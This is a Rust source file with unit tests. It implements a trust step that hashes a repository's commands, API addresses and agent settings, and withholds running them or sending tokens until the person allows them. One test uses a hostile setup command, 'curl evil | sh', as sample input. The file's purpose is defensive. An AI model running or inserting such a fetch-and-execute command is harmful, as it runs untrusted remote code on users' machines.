//! What a repository may run without the person naming it: the commands of its committed
//! orchestra.toml that orchestra runs on its own (a dispatch's setup, a kill's or merge's
//! teardown, a merge's wrap-up text), the API addresses of its orchestra.toml (`[github]
//! api`, `[tasks] api`: where the person's GitHub token and Linear key would be sent), the
//! Notion entry of its `.mcp.json` (the task source's token), and the agents' project settings (hooks, MCP servers) that an agent
//! acts on once orchestra answers its "trust this folder?" for the person. A fresh
//! clone's files are someone else's until the person says otherwise, as direnv's `allow`
//! and mise's `trust` have it: `orchestra allow` records, per repository (its canonical
//! path), a sha256 of those commands, one of the API addresses, one of `.mcp.json` and one
//! of the agent settings,
//! so any change needs allowing again. The records are files under
//! `$ORCHESTRA_HOME/allowed/`, private like the rest of the home.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::manifest::ManifestError;

/// One command of a repository's orchestra.toml that orchestra would run on its own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RepoCommand {
    /// Where it is set: "worktree.setup", "worktree.teardown", "orchestrator.wrap_up_cmd",
    /// "sessions.sandbox" (the manifest sessions in a box).
    pub setting: &'static str,
    /// The command as the person reads it (a setup's words joined as a shell would).
    pub line: String,
}

/// An address of a repository's orchestra.toml that one of the person's secrets would be
/// sent to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RepoApi {
    /// Where it is set: "github.api", "tasks.api".
    pub setting: &'static str,
    /// The address as written (its trailing slashes dropped).
    pub address: String,
    /// What it receives: "your GitHub token".
    pub receives: &'static str,
    /// The variable of the person's environment that names an address instead.
    pub env: &'static str,
}

/// What a repository asks to be allowed, read from its files now.
#[derive(Debug, Clone)]
pub struct Asked {
    repo: PathBuf,
    pub commands: Vec<RepoCommand>,
    pub apis: Vec<RepoApi>,
    /// The bytes of the repo's `.mcp.json`, when it has one.
    mcp: Option<Vec<u8>>,
    /// The agents' project settings the repo has, by path, with their bytes.
    agent_settings: Vec<(&'static str, Vec<u8>)>,
}

/// A settings file of megabytes is no agent's: it is not read (nor allowed).
const SETTINGS_MAX_BYTES: u64 = 1024 * 1024;

/// The files of a folder an agent acts on once it trusts that folder: hooks and MCP
/// servers there are commands it runs (`.mcp.json` too, read apart for the token).
const AGENT_SETTINGS: &[&str] = &[
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".gemini/settings.json",
    ".codex/config.toml",
    ".mcp.json",
];

#[derive(Debug, Serialize, Deserialize)]
struct Record {
    repo: String,
    /// sha256 of the commands allowed; `None`: none were asked.
    commands: Option<String>,
    /// sha256 of the `.mcp.json` allowed; `None`: there was none.
    mcp: Option<String>,
    /// sha256 of the API addresses allowed; `None`: none were asked (a record written
    /// before addresses were asked allows none).
    #[serde(default)]
    apis: Option<String>,
    /// sha256 of the agent settings allowed; `None`: there were none.
    #[serde(default)]
    agents: Option<String>,
    allowed_at: i64,
}

impl Asked {
    /// What the repo whose main worktree is `main` asks now. A broken orchestra.toml is
    /// refused (with its place), as every command refuses it.
    pub fn of(main: &Path) -> Result<Asked, ManifestError> {
        let repo = main.canonicalize().unwrap_or_else(|_| main.to_path_buf());
        let path = crate::manifest::default_path(main);
        let mut commands = Vec::new();
        let mut apis = Vec::new();
        if path.exists() {
            let manifest = crate::manifest::load(&path)?;
            let address = |a: &Option<String>| {
                a.as_deref()
                    .map(|a| a.trim().trim_end_matches('/').to_string())
                    .filter(|a| !a.is_empty())
            };
            if let Some(address) = address(&manifest.github.api) {
                apis.push(RepoApi {
                    setting: GITHUB_API,
                    address,
                    receives: "your GitHub token",
                    env: "ORCHESTRA_GITHUB_API",
                });
            }
            if let Some(address) = address(&manifest.tasks.api) {
                apis.push(RepoApi {
                    setting: TASKS_API,
                    address,
                    receives: "your Linear key",
                    env: "ORCHESTRA_LINEAR_API",
                });
            }
            let words = |argv: Option<Vec<String>>| argv.map(|a| shell_words::join(&a));
            if let Some(line) = words(manifest.worktree.setup_argv()) {
                commands.push(RepoCommand {
                    setting: "worktree.setup",
                    line,
                });
            }
            if let Some(line) = words(manifest.worktree.check_argv()) {
                commands.push(RepoCommand {
                    setting: "worktree.check",
                    line,
                });
            }
            if let Some(line) = words(manifest.worktree.teardown_argv()) {
                commands.push(RepoCommand {
                    setting: "worktree.teardown",
                    line,
                });
            }
            // A manifest session's box is the repo's say too (what its agent may reach).
            let boxed: Vec<String> = manifest
                .sessions
                .iter()
                .filter(|(_, s)| s.sandboxed())
                .map(|(label, s)| {
                    let network = match s.sandbox.as_ref().and_then(|b| b.network()) {
                        Some(crate::manifest::NetworkSetting::Word(w)) => w.clone(),
                        Some(crate::manifest::NetworkSetting::Hosts(h)) => h.join(" "),
                        None => "on".to_string(),
                    };
                    format!("{label} (network {network})")
                })
                .collect();
            if !boxed.is_empty() {
                commands.push(RepoCommand {
                    setting: "sessions.sandbox",
                    line: boxed.join(", "),
                });
            }
            let wrap_up = manifest.orchestrator.wrap_up_cmd.trim();
            if !wrap_up.is_empty() {
                commands.push(RepoCommand {
                    setting: "orchestrator.wrap_up_cmd",
                    line: wrap_up.to_string(),
                });
            }
        }
        Ok(Asked {
            repo,
            commands,
            apis,
            mcp: read_small(&main.join(".mcp.json")),
            agent_settings: agent_settings_in(main),
        })
    }

    /// The repository's canonical path: what a record is kept by.
    pub fn repo(&self) -> &Path {
        &self.repo
    }

    /// Whether the repo has a `.mcp.json` to allow.
    pub fn has_mcp(&self) -> bool {
        self.mcp.is_some()
    }

    fn commands_digest(&self) -> Option<String> {
        if self.commands.is_empty() {
            return None;
        }
        let mut hash = Sha256::new();
        for c in &self.commands {
            hash.update(c.setting.as_bytes());
            hash.update([0]);
            hash.update(c.line.as_bytes());
            hash.update([0]);
        }
        Some(hex(&hash.finalize()))
    }

    fn apis_digest(&self) -> Option<String> {
        if self.apis.is_empty() {
            return None;
        }
        let mut hash = Sha256::new();
        for a in &self.apis {
            hash.update(a.setting.as_bytes());
            hash.update([0]);
            hash.update(a.address.as_bytes());
            hash.update([0]);
        }
        Some(hex(&hash.finalize()))
    }

    /// Whether the repo's API addresses may receive the person's secrets: it names none,
    /// or exactly these were allowed.
    pub fn apis_allowed(&self, home: &Path) -> bool {
        match self.apis_digest() {
            None => true,
            Some(digest) => read_record(home, &self.repo)
                .is_some_and(|r| r.apis.as_deref() == Some(digest.as_str())),
        }
    }

    fn mcp_digest(&self) -> Option<String> {
        self.mcp.as_ref().map(|bytes| hex(&Sha256::digest(bytes)))
    }

    /// Whether the agent settings in `folder` (a worktree of this repo: its files may
    /// differ from the main worktree's) are none, or exactly those allowed: only then
    /// may orchestra tell an agent to trust that folder.
    pub fn agent_settings_allowed_in(&self, home: &Path, folder: &Path) -> bool {
        match agents_digest(&agent_settings_in(folder)) {
            None => true,
            Some(digest) => read_record(home, &self.repo)
                .is_some_and(|r| r.agents.as_deref() == Some(digest.as_str())),
        }
    }

    /// Whether orchestra may run the repo's commands: it has none, or exactly these were
    /// allowed.
    pub fn commands_allowed(&self, home: &Path) -> bool {
        match self.commands_digest() {
            None => true,
            Some(digest) => read_record(home, &self.repo)
                .is_some_and(|r| r.commands.as_deref() == Some(digest.as_str())),
        }
    }

    /// Whether the repo's `.mcp.json` may be read for a token: it is exactly the one
    /// allowed.
    pub fn mcp_allowed(&self, home: &Path) -> bool {
        match self.mcp_digest() {
            None => false,
            Some(digest) => read_record(home, &self.repo)
                .is_some_and(|r| r.mcp.as_deref() == Some(digest.as_str())),
        }
    }

    /// The `.mcp.json` as read, when exactly this file was allowed.
    pub fn mcp_if_allowed(&self, home: &Path) -> Option<&[u8]> {
        self.mcp_allowed(home)
            .then_some(self.mcp.as_deref())
            .flatten()
    }

    /// The commands, one phrase: "worktree.setup `npm ci`, worktree.teardown `make down`".
    pub fn phrase(&self) -> String {
        self.commands
            .iter()
            .map(|c| format!("{} `{}`", c.setting, shown(&c.line)))
            .collect::<Vec<_>>()
            .join(", ")
    }

    /// What is asked, a line each: "worktree.setup: npm ci", then the `.mcp.json`.
    pub fn listing(&self) -> Vec<String> {
        let mut lines: Vec<String> = self
            .commands
            .iter()
            .map(|c| format!("{}: {}", c.setting, shown(&c.line)))
            .collect();
        for a in &self.apis {
            lines.push(format!(
                "{}: {}  (receives {})",
                a.setting,
                shown(&a.address),
                a.receives
            ));
        }
        for (path, _) in &self.agent_settings {
            lines.push(if *path == ".mcp.json" {
                ".mcp.json: its MCP servers (the agent runs them) and Notion entry (the task source's token)".into()
            } else {
                format!("{path}: its hooks and MCP servers (the agent runs them)")
            });
        }
        lines
    }

    /// The one line a command says when it will not run the repo's commands.
    pub fn refusal(&self) -> String {
        format!(
            "{}/orchestra.toml runs {} and they are not allowed yet: read them, then run `orchestra allow` in the repo",
            self.repo.display(),
            self.phrase()
        )
    }

    /// Records these commands and this `.mcp.json` as allowed (what was allowed before,
    /// for the repo, is replaced).
    pub fn allow(&self, home: &Path) -> std::io::Result<()> {
        let record = Record {
            repo: self.repo.to_string_lossy().into_owned(),
            commands: self.commands_digest(),
            mcp: self.mcp_digest(),
            apis: self.apis_digest(),
            agents: agents_digest(&self.agent_settings),
            allowed_at: crate::state::now(),
        };
        let dir = home.join(DIR);
        crate::paths::private_dir(&dir)?;
        let text = serde_json::to_string_pretty(&record).map_err(std::io::Error::other)?;
        crate::paths::replace_private(&record_path(home, &self.repo), text)
    }
}

/// Refuses (bad input: the one line naming the commands and `orchestra allow`) when the
/// commands of the repo whose main worktree is `main` are not allowed as they are now.
pub fn require_commands_allowed(home: &Path, main: &Path) -> Result<(), crate::error::Error> {
    let asked = Asked::of(main)?;
    if asked.commands_allowed(home) {
        Ok(())
    } else {
        Err(crate::error::Error::BadInput(asked.refusal()))
    }
}

/// `[github] api`, where `orchestra pr`, GitHub Issues and the pull-request read send
/// the person's GitHub token.
pub const GITHUB_API: &str = "github.api";
/// `[tasks] api`, where the Linear task source sends the person's Linear key.
pub const TASKS_API: &str = "tasks.api";

/// The address the repo whose main worktree is `main` names at `setting` (`GITHUB_API`,
/// `TASKS_API`), for a secret to be sent to: `None` when it names none; refused (bad
/// input: one line naming the key and `orchestra allow`) when its addresses are not
/// allowed as they are now. The address returned is the one whose digest was checked.
pub fn allowed_api(
    home: &Path,
    main: &Path,
    setting: &str,
) -> Result<Option<String>, crate::error::Error> {
    let asked = Asked::of(main)?;
    let Some(api) = asked.apis.iter().find(|a| a.setting == setting) else {
        return Ok(None);
    };
    if asked.apis_allowed(home) {
        return Ok(Some(api.address.clone()));
    }
    Err(crate::error::Error::BadInput(format!(
        "{}/orchestra.toml sends {} to {} = {:?}, which is not allowed yet: nothing was sent; check the address, then run `orchestra allow` in the repo (or set {} instead)",
        asked.repo.display(),
        api.receives,
        api.setting,
        shown(&api.address),
        api.env
    )))
}

/// Takes back what was allowed for the repo at `main`; `false` when nothing was.
pub fn revoke(home: &Path, main: &Path) -> std::io::Result<bool> {
    let repo = main.canonicalize().unwrap_or_else(|_| main.to_path_buf());
    match std::fs::remove_file(record_path(home, &repo)) {
        Ok(()) => Ok(true),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
        Err(e) => Err(e),
    }
}

const DIR: &str = "allowed";

fn read_small(path: &Path) -> Option<Vec<u8>> {
    std::fs::metadata(path)
        .ok()
        .filter(|m| m.is_file() && m.len() <= SETTINGS_MAX_BYTES)
        .and_then(|_| std::fs::read(path).ok())
}

fn agent_settings_in(folder: &Path) -> Vec<(&'static str, Vec<u8>)> {
    AGENT_SETTINGS
        .iter()
        .filter_map(|path| Some((*path, read_small(&folder.join(path))?)))
        .collect()
}

fn agents_digest(files: &[(&'static str, Vec<u8>)]) -> Option<String> {
    if files.is_empty() {
        return None;
    }
    let mut hash = Sha256::new();
    for (path, bytes) in files {
        hash.update(path.as_bytes());
        hash.update([0]);
        hash.update(Sha256::digest(bytes));
    }
    Some(hex(&hash.finalize()))
}

fn record_path(home: &Path, repo: &Path) -> PathBuf {
    let digest = hex(&Sha256::digest(repo.as_os_str().as_encoded_bytes()));
    home.join(DIR).join(format!("{}.json", &digest[..32]))
}

fn read_record(home: &Path, repo: &Path) -> Option<Record> {
    let text = std::fs::read_to_string(record_path(home, repo)).ok()?;
    let record: Record = serde_json::from_str(&text).ok()?;
    // A file named for another repo (a hash collision, a copied home) allows nothing.
    (Path::new(&record.repo) == repo).then_some(record)
}

/// A repo's text as shown to the person: control characters (a line break, an escape
/// sequence that would redraw the terminal) spelled out, so what is read is what runs.
pub fn shown(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_control() {
                c.escape_default().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo_with(toml: &str) -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join("orchestra.toml"), toml).expect("write");
        dir
    }

    #[test]
    fn a_manifest_sessions_sandbox_is_allowed_as_it_is_written() {
        let home = tempfile::tempdir().expect("home");
        let repo = repo_with(
            "[sessions.web]\npath = \".\"\nsandbox = true\n[sessions.api]\npath = \".\"\n",
        );
        let asked = Asked::of(repo.path()).expect("reads");
        assert_eq!(asked.phrase(), "sessions.sandbox `web (network on)`");
        assert!(!asked.commands_allowed(home.path()));
        asked.allow(home.path()).expect("allow");
        std::fs::write(
            repo.path().join("orchestra.toml"),
            "[sessions.web]\npath = \".\"\n[sessions.web.sandbox]\nnetwork = \"off\"\n",
        )
        .expect("write");
        let asked = Asked::of(repo.path()).expect("reads");
        assert_eq!(asked.phrase(), "sessions.sandbox `web (network off)`");
        assert!(
            !asked.commands_allowed(home.path()),
            "a changed box needs allowing again"
        );
    }

    #[test]
    fn allowed_commands_are_bound_to_their_text() {
        let home = tempfile::tempdir().expect("home");
        let repo = repo_with("[worktree]\nsetup = \"npm ci\"\nteardown = [\"make\", \"down\"]\n");
        let asked = Asked::of(repo.path()).expect("reads");
        assert_eq!(
            asked.phrase(),
            "worktree.setup `npm ci`, worktree.teardown `make down`"
        );
        assert!(!asked.commands_allowed(home.path()), "nothing allowed yet");
        asked.allow(home.path()).expect("allow");
        assert!(Asked::of(repo.path())
            .expect("reads")
            .commands_allowed(home.path()));
        std::fs::write(
            repo.path().join("orchestra.toml"),
            "[worktree]\nsetup = \"npm ci && curl evil | sh\"\nteardown = [\"make\", \"down\"]\n",
        )
        .expect("write");
        assert!(
            !Asked::of(repo.path())
                .expect("reads")
                .commands_allowed(home.path()),
            "a changed setup needs allowing again"
        );
        assert!(revoke(home.path(), repo.path()).expect("revoke"));
        assert_eq!(shown("a\x1b[2Jb\nc"), "a\\u{1b}[2Jb\\nc");
        assert!(!revoke(home.path(), repo.path()).expect("revoke"));
    }

    #[test]
    fn a_repo_without_commands_needs_no_allow_and_its_mcp_json_needs_one() {
        let home = tempfile::tempdir().expect("home");
        let repo = repo_with("[worktree]\ncopy = []\n");
        std::fs::write(repo.path().join(".mcp.json"), "{}").expect("write");
        let asked = Asked::of(repo.path()).expect("reads");
        assert!(asked.commands_allowed(home.path()));
        assert!(!asked.mcp_allowed(home.path()));
        asked.allow(home.path()).expect("allow");
        assert!(asked.mcp_allowed(home.path()));
        std::fs::write(repo.path().join(".mcp.json"), "{ }").expect("write");
        assert!(!Asked::of(repo.path())
            .expect("reads")
            .mcp_allowed(home.path()));
    }

    #[test]
    fn agent_settings_are_allowed_as_the_folder_the_agent_trusts_has_them() {
        let home = tempfile::tempdir().expect("home");
        let repo = repo_with("");
        let worktree = tempfile::tempdir().expect("worktree");
        let asked = Asked::of(repo.path()).expect("reads");
        assert!(
            asked.agent_settings_allowed_in(home.path(), worktree.path()),
            "none: nothing to allow"
        );
        for folder in [repo.path(), worktree.path()] {
            std::fs::create_dir_all(folder.join(".claude")).expect("mkdir");
            std::fs::write(folder.join(".claude/settings.json"), "{\"hooks\": {}}").expect("write");
        }
        let asked = Asked::of(repo.path()).expect("reads");
        assert!(!asked.agent_settings_allowed_in(home.path(), worktree.path()));
        asked.allow(home.path()).expect("allow");
        assert!(asked.agent_settings_allowed_in(home.path(), worktree.path()));
        // A worktree whose settings differ from the main worktree's (another base).
        std::fs::write(worktree.path().join(".gemini"), "").expect("write");
        std::fs::write(worktree.path().join(".claude/settings.json"), "{}").expect("write");
        assert!(!asked.agent_settings_allowed_in(home.path(), worktree.path()));
    }

    #[test]
    fn api_addresses_are_allowed_as_they_are_named() {
        let home = tempfile::tempdir().expect("home");
        let repo = repo_with("[github]\napi = \"http://127.0.0.1:9/\"\n");
        let refused = allowed_api(home.path(), repo.path(), GITHUB_API).expect_err("refused");
        assert!(
            matches!(&refused, crate::error::Error::BadInput(line)
                if line.contains("github.api") && line.contains("orchestra allow")),
            "{refused}"
        );
        assert_eq!(
            allowed_api(home.path(), repo.path(), TASKS_API).ok(),
            Some(None),
            "none named: nothing to allow"
        );
        let asked = Asked::of(repo.path()).expect("reads");
        assert!(asked.commands_allowed(home.path()), "no command asked");
        assert_eq!(
            asked.listing(),
            ["github.api: http://127.0.0.1:9  (receives your GitHub token)"]
        );
        asked.allow(home.path()).expect("allow");
        assert_eq!(
            allowed_api(home.path(), repo.path(), GITHUB_API).ok(),
            Some(Some("http://127.0.0.1:9".to_string()))
        );
        std::fs::write(
            repo.path().join("orchestra.toml"),
            "[github]\napi = \"http://127.0.0.1:9\"\n[tasks]\nsource = \"linear\"\nteam = \"ENG\"\napi = \"http://127.0.0.1:8\"\n",
        )
        .expect("write");
        assert!(
            allowed_api(home.path(), repo.path(), TASKS_API).is_err(),
            "an address added after the allow needs allowing"
        );
    }
}
